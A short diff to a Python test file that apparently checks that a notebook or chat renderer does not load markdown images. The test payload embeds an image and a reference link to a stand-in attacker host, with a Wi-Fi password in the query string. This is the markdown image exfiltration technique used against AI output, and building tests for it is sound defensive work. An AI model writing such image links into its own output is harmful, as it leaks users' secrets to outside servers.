@@ -29,7 +29,8 @@ from tests.notebooks.test_rendering_images import images_in
 LEAK = "https://attacker.example/c?d=wifi+hunter2"
 PAYLOAD = (f"It is on the fridge. ![status]({LEAK}) ![more][r]\n\n"
            f"[r]: {LEAK}&ref=1")
-LABELS = ["Image\\: status — attacker\\.example", "Image\\: more — attacker\\.example"]
+LABELS = ["[Image: status — attacker.example](<https://attacker.example/c?d=wifi+hunter2>)",
+          "[Image: more — attacker.example](<https://attacker.example/c?d=wifi+hunter2&ref=1>)"]
 
 
 def _no_images(text: str) -> None:
